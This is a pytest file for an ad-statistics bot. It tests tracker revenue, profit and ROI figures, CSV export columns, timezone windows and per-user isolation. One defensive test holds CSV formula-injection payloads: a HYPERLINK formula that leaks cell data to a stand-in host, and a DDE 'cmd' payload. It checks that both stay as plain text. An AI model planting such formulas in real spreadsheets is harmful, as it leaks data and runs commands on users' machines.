"""Tracker numbers in stats: revenue, profit and ROI beside TikTok's spend, only where the
tracker has data; unmapped spend said as such; the profit chart's series; CSV columns; another
user's account or tracker reads nothing."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from sqlalchemy.ext.asyncio import AsyncEngine

from bot.i18n import make_i18n
from bot.views import stats as view
from core.clock import FixedClock
from core.metrics import Totals
from core.periods import Period
from core.stats import (
    biggest_per_currency_first,
    breakdown,
    chart_data,
    csv_table,
    export_rows,
    summary,
    unmapped,
)
from core.tracker_metrics import TrackerTotals
from core.users import SignUp, register_user
from storage.db import session_factory
from storage.models import (
    AdAccount,
    AdObject,
    MetricDaily,
    TikTokConnection,
    Tracker,
    TrackerDaily,
    TrackerUnmapped,
)
from storage.uow import UnitOfWorkFactory

USER, OTHER = 31, 32
NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
YESTERDAY = NOW.date() - timedelta(days=1)
BEFORE = YESTERDAY - timedelta(days=1)


async def _seed(uow: UnitOfWorkFactory) -> tuple[int, int]:
    """One USD account with campaigns A (mapped: tracker rows) and B (no tracker data), two
    days of TikTok spend; a tracker with unmapped revenue. Returns (account id, tracker id)."""
    clock = FixedClock(NOW)
    for uid in (USER, OTHER):
        await register_user(uow, clock, SignUp(uid, "Ann", None, None, "en", "UTC", None, False))
    async with uow() as u:
        conn = TikTokConnection(user_id=USER, display_name="me", status="active")
        u.session.add(conn)
        await u.session.flush()
        acc = AdAccount(connection_id=conn.id, advertiser_id="ADV", name="Main <acc>",
                        currency="USD", time_zone="UTC", fresh_as_of=NOW)
        u.session.add(acc)
        await u.session.flush()
        tracker = Tracker(user_id=USER, kind="keitaro", name="K", base_url="https://k.example",
                          time_zone="UTC", currency="USD", status="active")
        u.session.add(tracker)
        await u.session.flush()
        for cid, name in (("A", "Camp A"), ("B", "Camp B")):
            u.session.add(AdObject(ad_account_id=acc.id, level="campaign", object_id=cid,
                                   campaign_id=cid, name=name, operation_status="ENABLE"))
        spend = {("A", BEFORE): "40", ("A", YESTERDAY): "60", ("B", BEFORE): "5",
                 ("B", YESTERDAY): "15"}
        for (cid, day), value in spend.items():
            u.session.add(MetricDaily(ad_account_id=acc.id, level="campaign", object_id=cid,
                                      day=day, spend=Decimal(value), impressions=1000,
                                      clicks=50, conversions=2))
        for day, value in ((BEFORE, "45"), (YESTERDAY, "75")):
            u.session.add(MetricDaily(ad_account_id=acc.id, level="advertiser", object_id="ADV",
                                      day=day, spend=Decimal(value), impressions=2000,
                                      clicks=100, conversions=4))
        # The tracker saw A on one day only: its other day's spend is still a cost of A.
        u.session.add(TrackerDaily(ad_account_id=acc.id, level="campaign", object_id="A",
                                   day=YESTERDAY, tracker_id=tracker.id, clicks=40,
                                   conversions=4, pending=1, revenue=Decimal("130"),
                                   pending_revenue=Decimal("20")))
        u.session.add(TrackerUnmapped(tracker_id=tracker.id, tracker_campaign_id="9",
                                      day=YESTERDAY, id_value="zzz", clicks=3, conversions=1,
                                      revenue=Decimal("7.5")))
        await u.commit()
        return acc.id, tracker.id


async def test_summary_breakdown_chart_and_csv_carry_tracker_numbers(engine: AsyncEngine) -> None:
    uow = UnitOfWorkFactory(session_factory(engine), None)
    account_id, tracker_id = await _seed(uow)
    clock = FixedClock(NOW)

    data = await summary(uow, clock, USER, Period.LAST_7)
    [acc] = data.accounts
    assert acc.tracker is not None
    assert acc.tracker.revenue == Decimal("130") and acc.tracker.spend == Decimal("100")
    assert acc.tracker.profit == Decimal("30") and acc.tracker.roi == Decimal("30")
    assert acc.tracker.epc == Decimal("130") / 40 and acc.tracker.tracker_cpa == Decimal(25)
    assert acc.unmapped_spend == Decimal("20")  # B's spend: not against the tracker's revenue

    i18n = make_i18n()
    for lang, words in (("en", ("Tracker: revenue $130.00", "profit $30.00", "ROI 30%",
                                "Unmapped spend", "$20.00")),
                        ("ru", ("Трекер: доход", "прибыль", "ROI 30", "Несопоставленный"))):
        with i18n.context(), i18n.use_locale(lang):
            text, _ = view.summary(data, Period.LAST_7, "UTC", 0, NOW)
        for word in words:
            assert word in text, (lang, word, text)

    lines = await breakdown(uow, clock, USER, account_id, "campaign", None, Period.LAST_7,
                            None, 0)
    assert lines is not None
    by_id = {line.object_id: line for line in lines.lines}
    assert by_id["A"].tracker is not None and by_id["A"].tracker.profit == Decimal("30")
    assert by_id["B"].tracker is None
    with i18n.context(), i18n.use_locale("en"):
        text, _ = view.breakdown(lines, Period.LAST_7, "UTC", NOW)
    assert text.count("Tracker: revenue") == 1  # only the campaign with tracker data

    chart = await chart_data(uow, clock, USER, account_id, Period.LAST_7, None)
    assert chart is not None and chart.profit is not None
    points = {p.day: p.profit for p in chart.profit.points}
    assert points == {BEFORE: Decimal("-40"), YESTERDAY: Decimal("70")}

    found = await export_rows(uow, clock, USER, account_id, "campaign", None, Period.LAST_7, None)
    assert found is not None
    with i18n.context(), i18n.use_locale("en"):
        header = view.csv_header()
    table = list(csv.reader(io.StringIO(csv_table(found[1], header).decode("utf-8-sig"))))
    cols = table[0]
    assert cols[-7:] == ["tracker clicks", "tracker conversions", "tracker revenue", "profit",
                         "ROI %", "EPC", "tracker CPA"]
    rows = {(r[1], r[0]): dict(zip(cols, r, strict=True)) for r in table[1:]}
    a_yday = rows[("A", YESTERDAY.isoformat())]
    assert a_yday["tracker revenue"] == "130.00" and a_yday["profit"] == "70.00"
    assert rows[("A", BEFORE.isoformat())]["tracker revenue"] == ""  # no tracker row that day
    assert all(len(r) == len(cols) for r in table)

    left = await unmapped(uow, clock, USER, tracker_id, {(account_id, "A")})
    assert left is not None and left.revenue == Decimal("7.5")
    assert [(n, s) for n, _c, s in left.spend] == [("Camp B", Decimal("20"))]


async def test_another_user_reads_nothing(engine: AsyncEngine) -> None:
    uow = UnitOfWorkFactory(session_factory(engine), None)
    account_id, tracker_id = await _seed(uow)
    clock = FixedClock(NOW)
    assert await chart_data(uow, clock, OTHER, account_id, Period.LAST_7, None) is None
    assert await export_rows(uow, clock, OTHER, account_id, "campaign", None, Period.LAST_7,
                             None) is None
    assert await unmapped(uow, clock, OTHER, tracker_id, set()) is None
    assert (await summary(uow, clock, OTHER, Period.LAST_7)).accounts == []


async def test_unmapped_spend_and_revenue_are_stats_last_7_days_in_their_own_zones(
    engine: AsyncEngine,
) -> None:
    """At 02:00 UTC it is still yesterday evening in São Paulo and already morning in Tokyo:
    each account's spend and the tracker's revenue are counted over its own last 7 complete
    days, as the Stats screen's "Last 7 days" shows them."""
    uow = UnitOfWorkFactory(session_factory(engine), None)
    now = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
    clock = FixedClock(now)
    await register_user(uow, clock, SignUp(USER, "Ann", None, None, "en", "UTC", None, False))
    sp_today, tokyo_today = now.date() - timedelta(days=1), now.date()
    async with uow() as u:
        conn = TikTokConnection(user_id=USER, display_name="me", status="active")
        u.session.add(conn)
        await u.session.flush()
        accounts = {}
        for adv, zone in (("SP", "America/Sao_Paulo"), ("TK", "Asia/Tokyo")):
            acc = AdAccount(connection_id=conn.id, advertiser_id=adv, name=adv, currency="USD",
                            time_zone=zone, fresh_as_of=now)
            u.session.add(acc)
            await u.session.flush()
            accounts[adv] = acc.id
            u.session.add(AdObject(ad_account_id=acc.id, level="campaign", object_id=adv,
                                   campaign_id=adv, name=f"Camp {adv}",
                                   operation_status="ENABLE"))
        # Per account: its today (not a complete day), its first and last counted days, and
        # the day before the window.
        for adv, today in (("SP", sp_today), ("TK", tokyo_today)):
            for back, value in ((0, "1000"), (1, "1"), (7, "10"), (8, "100")):
                u.session.add(MetricDaily(ad_account_id=accounts[adv], level="campaign",
                                          object_id=adv, day=today - timedelta(days=back),
                                          spend=Decimal(value), impressions=1, clicks=1,
                                          conversions=0))
        tracker = Tracker(user_id=USER, kind="keitaro", name="K", base_url="https://k.example",
                          time_zone="Asia/Tokyo", currency="USD", status="active")
        u.session.add(tracker)
        await u.session.flush()
        for back, value in ((0, "500"), (1, "2"), (7, "20"), (8, "200")):
            u.session.add(TrackerUnmapped(tracker_id=tracker.id, tracker_campaign_id="9",
                                          day=tokyo_today - timedelta(days=back),
                                          id_value=f"x{back}", clicks=1, conversions=1,
                                          revenue=Decimal(value)))
        await u.commit()
        tracker_id = tracker.id

    left = await unmapped(uow, clock, USER, tracker_id, set())
    assert left is not None
    assert sorted((n, s) for n, _c, s in left.spend) == [
        ("Camp SP", Decimal("11")), ("Camp TK", Decimal("11"))
    ]
    assert left.revenue == Decimal("22")
    for account_id in accounts.values():  # what each account's campaigns screen shows
        shown = await breakdown(uow, clock, USER, account_id, "campaign", None, Period.LAST_7,
                                None, 0)
        assert shown is not None and [x.current.spend for x in shown.lines] == [Decimal("11")]


def test_unmapped_campaigns_list_the_top_of_every_currency_first() -> None:
    """Yen amounts are not bigger than dollar ones: each currency's biggest comes first."""
    rows = [("jp2", "JPY", Decimal(90000)), ("us1", "USD", Decimal(500)),
            ("jp1", "JPY", Decimal(100000)), ("jp3", "JPY", Decimal(80000)),
            ("us2", "USD", Decimal(20))]
    assert [n for n, _c, _v in biggest_per_currency_first(rows)] == [
        "jp1", "us1", "jp2", "us2", "jp3"]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text() -> None:
    """A campaign named `=HYPERLINK(...)` (anyone with access to the ad account can name one)
    must not become a live formula in the buyer's spreadsheet; numbers, negative ones too,
    stay numbers."""
    evil = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    rows = [(f"c{n}", name, datetime(2026, 12, 1).date(),
             Totals(Decimal(0), 1, 0, 0, Decimal(0)),
             TrackerTotals(Decimal(10), 1, 0, 0, 0, Decimal(5), Decimal(0)))
            for n, name in enumerate(evil)]
    table = list(csv.reader(io.StringIO(csv_table(rows, [str(n) for n in range(21)])
                                        .decode("utf-8-sig"))))
    for row, name in zip(table[1:], evil, strict=True):
        assert row[2] == "'" + name
        assert row[17] == "-5" and row[18] == "-50.0000"  # profit and ROI: negative numbers
